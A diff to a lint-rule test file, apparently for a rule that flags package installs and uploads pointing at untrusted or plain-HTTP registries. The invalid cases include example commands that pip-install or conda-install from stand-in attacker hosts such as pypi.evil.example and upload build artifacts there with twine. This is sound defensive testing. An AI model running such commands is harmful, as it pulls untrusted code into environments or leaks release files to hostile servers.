@@ -20,6 +20,11 @@ const trusted = { settings: { trustedRegistries: ['npm.evil.example'] } };
 
 await ruleTester(rule, {
   valid: [
+    // formats, files and identities of other commands; a folder of wheels
+    sh('conda env create -f environment.yml\nconda install -c conda-forge pandas\nconda install -c https://conda.anaconda.org/conda-forge pandas'),
+    sh('poetry export -f requirements.txt --output requirements.txt\npdm export -f requirements -o requirements.txt\ntwine upload -i release.key dist/*'),
+    sh('python3 scripts/report.py -f data.yml -i input.txt --source src/main.py'),
+    sh('pip install -f wheels.html --no-index acme'),
     { code: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n        with:\n          registry-url: https://${['wombat-dressing-room', 'appspot.com'].join('.')}/\n`, filename: '.github/workflows/publish.yml' },
     { code: "pnpm config set --location project store-dir .store\nnpm config set -L user fund false\n", filename: 'a.sh' },
     { code: 'export NPM_CONFIG_REGISTRY ?= http://localhost:4873\n', filename: 'Makefile' },
@@ -62,6 +67,11 @@ await ruleTester(rule, {
     { code: '{"permissions":{"deny":["x"]},"env":{"A":"https://npm.evil.example"}}', filename: '.claude/settings.json' },
   ],
   invalid: [
+    bad(sh('pip install -f https://wheels.evil.example/index.html a'), 'registry'),
+    bad(sh('python3 -m pip install -i https://pypi.evil.example/simple a'), 'registry'),
+    bad(sh('python -m pip install --find-links http://pypi.evil.example/w a'), 'plain'),
+    bad(sh('conda install -c https://channel.evil.example/main a'), 'registry'),
+    bad(sh('twine upload --repository-url https://pypi.evil.example/legacy/ dist/*'), 'registry'),
     { code: "pnpm config set --location project @acme:registry https://npm.acme-tools.dev/\n", filename: 'a.sh', errors: [{ messageId: 'registry' }] },
     { code: "npm config set -L project registry http://npm.acme-tools.dev\n", filename: 'a.sh', errors: [{ messageId: 'plain' }] },
     { code: 'export NPM_CONFIG_REGISTRY := http://npm.acme.example\n', filename: 'Makefile', errors: [{ messageId: 'plain' }] },
